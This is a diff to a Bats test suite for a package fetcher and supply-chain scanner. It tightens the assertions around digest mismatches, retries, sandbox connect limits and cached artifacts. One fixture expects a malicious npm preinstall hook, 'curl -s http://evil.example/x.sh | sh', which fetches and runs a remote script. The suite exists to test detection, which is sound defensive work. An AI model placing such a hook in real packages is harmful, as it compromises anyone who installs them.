@@ -108,9 +108,9 @@ artifact pep691 3.0 pep691-3.0.tar.gz"
 	assert_equal "$(printf '%s\n' "$output" | jq -r '.type + ":" + (.detection // .name // "")' | tr '\n' ' ')" \
 		'hit:DigestMismatch error: artifact:evil '
 	assert_jq "${lines[0]}" '.severity == "critical" and .artifact == "pypi:tampered" and (.evidence | test("published sha256 [0-9a-f]{64}, downloaded [0-9a-f]{64}"))'
-	[[ $stderr == *"digest mismatch, refused"* ]]
+	[[ $stderr == *"digest mismatch, refused"* ]] || fail "stderr: $stderr"
 	# Nothing of it stays in the cache.
-	[ -z "$(ls "$XDG_CACHE_HOME/aura/tmp")" ]
+	assert_equal "$(ls "$XDG_CACHE_HOME/aura/tmp")" ""
 	run ! grep -rl 'name="tampered"' "$XDG_CACHE_HOME/aura/sha256"
 	# Through the driver: a verdict naming the tampering, incomplete, exit 2.
 	run -2 --separate-stderr aura scan --format json --index-url "$INDEX" pypi:tampered
@@ -141,9 +141,9 @@ artifact pypi:evil==1.0 "
 	run -0 --separate-stderr aura-fetch --index-url "http://127.0.0.1:$OTHER/simple/" pypi:x
 	kill "$(cat "$BATS_FILE_TMPDIR/other/pid")"
 	run -0 --separate-stderr aura-fetch --index-url "http://127.0.0.1:$OTHER/simple/" pypi:x
-	[ "$SECONDS" -lt 60 ]
+	[ "$SECONDS" -lt 60 ] || fail "took ${SECONDS}s, wanted under 60"
 	assert_jq "$output" '.type == "error" and (.message | test("Connection refused|Couldn.t connect"))'
-	[[ $stderr == *"retrying (2 of 2)"* ]]
+	[[ $stderr == *"retrying (2 of 2)"* ]] || fail "stderr: $stderr"
 	start_server other	# for the tests after this one
 }
 
@@ -160,8 +160,8 @@ error - - -
 error - - -"
 	assert_jq "${lines[1]}" '.ecosystem == "npm" and .format == "tar.gz" and .registry.install_scripts == {"preinstall": "curl -s http://evil.example/x.sh | sh"}'
 	assert_jq "${lines[0]}" '.registry.install_scripts == {} and .registry.first_upload_time == "2024-03-01T00:00:00Z"'
-	[[ ${lines[5]} == *"unknown package 'nope'"* ]]
-	[[ ${lines[6]} == *"no version of 'leftpad' matches '9.9'"* ]]
+	[[ ${lines[5]} == *"unknown package 'nope'"* ]] || fail "line 5: ${lines[5]}"
+	[[ ${lines[6]} == *"no version of 'leftpad' matches '9.9'"* ]] || fail "line 6: ${lines[6]}"
 }
 
 @test "https/http archive URLs, verified when the URL carries #sha256=" {
@@ -185,7 +185,7 @@ error - - -"
 	echo 'import os; os.system("x")' >"$path"
 	run -0 --separate-stderr aura-fetch --index-url "$INDEX" --offline 'pypi:evil==1.0'
 	assert_jq "$output" '.type == "error" and (.message | test("not in the cache"))'
-	[[ $stderr == *"does not match its digest; discarded"* ]]
+	[[ $stderr == *"does not match its digest; discarded"* ]] || fail "stderr: $stderr"
 	run -0 --separate-stderr aura-fetch --index-url "$INDEX" 'pypi:evil==1.0'
 	assert_equal "$output" "$first"
 	# Offline, a project never fetched is an error, not a silent skip.
@@ -212,7 +212,7 @@ error - - -"
 	[ "$status" -eq 0 ] || fail "connect to the index refused: $stderr"
 	run --separate-stderr aura-fetch --index-url "$INDEX" --sandbox-selftest "connect:$OTHER" pypi:x
 	[ "$status" -eq 3 ] || fail "connect to another port allowed (exit $status): $stderr"
-	[[ $stderr == *"refused: Permission denied"* ]]
+	[[ $stderr == *"refused: Permission denied"* ]] || fail "stderr: $stderr"
 	run --separate-stderr aura-fetch --offline --index-url "$INDEX" --sandbox-selftest "connect:$PORT" pypi:x
 	[ "$status" -eq 3 ] || fail "--offline: connect to the index allowed (exit $status): $stderr"
 	run --separate-stderr env AURA_ALLOW_NO_SANDBOX=1 aura-fetch --no-sandbox --index-url "$INDEX" --sandbox-selftest "connect:$OTHER" pypi:x
@@ -406,10 +406,10 @@ artifact oldpkg 0.5"
 	^9;error: no version of 'ranged' matches '^9' (pre-releases only with --pre)
 	>=x.y;error: '>=x.y' is not a version, dist-tag or range of 'ranged'
 	EOF
-	run -0 aura-fetch --registry "$BASE/" --pre 'npm:ranged@>=2.0.1 <3'
+	run -0 --separate-stderr aura-fetch --registry "$BASE/" --pre 'npm:ranged@>=2.0.1 <3'
 	assert_jq "$output" '.version == "2.1.0-rc.1"'
 	# No version: the "latest" dist-tag, never the newest number.
-	run -0 aura-fetch --registry "$BASE/" npm:ranged
+	run -0 --separate-stderr aura-fetch --registry "$BASE/" npm:ranged
 	assert_jq "$output" '.version == "2.0.0"'
 }
 
@@ -432,8 +432,8 @@ error - - unknown project 'nope' on $M (HTTP 404)"
 	XDG_CACHE_HOME=$PWD/fresh-cache run -0 --separate-stderr aura-fetch --index-url "$M" pypi:alpha
 	assert_equal "$(fields | head -1)" "hit - - DigestMismatch"
 	# Not a folder: a usage error.
-	run -2 aura-fetch --index-url "file://$PWD/nothing/simple/" pypi:alpha
-	assert_output --partial "No such file or directory"
+	run -2 --separate-stderr aura-fetch --index-url "file://$PWD/nothing/simple/" pypi:alpha
+	[[ $stderr == *"No such file or directory"* ]] || fail "stderr: $stderr"
 }
 
 @test "a mirror: links out of it are refused, and Landlock lets the stage read only the mirror, the cache and the targets' folders" {
@@ -479,8 +479,8 @@ artifact onlysimple 0.5 onlysimple-0.5.tar.gz"
 pypi:pep691==3.0
 error: the index lists 'bad name!', which is not a project name"
 	rm "$BATS_FILE_TMPDIR/plain/web/simple/index.html"
-	run -2 aura-fetch --latest
-	run -2 aura-fetch --list pypi:x
+	run -2 --separate-stderr aura-fetch --latest
+	run -2 --separate-stderr aura-fetch --list pypi:x
 }
 
 @test "--db: an artifact already scanned under the same Aura version, rules and limits is not scanned again; --rescan, other rules, schema 1" {
@@ -517,7 +517,7 @@ onlysimple info scanned"
 	assert_equal "$(scan pypi:bad-one)" "bad-one critical reused"
 	# A reused record with no database to read it from: an error, never a silent pass.
 	run -2 --separate-stderr bash -c "aura-fetch --index-url '$M' --db t.db --rules-digest '$digest' --limits unpack-cpu=default pypi:bad-one | aura-score --format json"
-	[[ "$stderr" == *"no --db to read its verdict from"* ]]
-	run -2 aura-fetch --db t.db pypi:alpha
-	assert_output --partial "needs --rules-digest and --limits"
+	[[ "$stderr" == *"no --db to read its verdict from"* ]] || fail "stderr: $stderr"
+	run -2 --separate-stderr aura-fetch --db t.db pypi:alpha
+	[[ $stderr == *"needs --rules-digest and --limits"* ]] || fail "stderr: $stderr"
 }
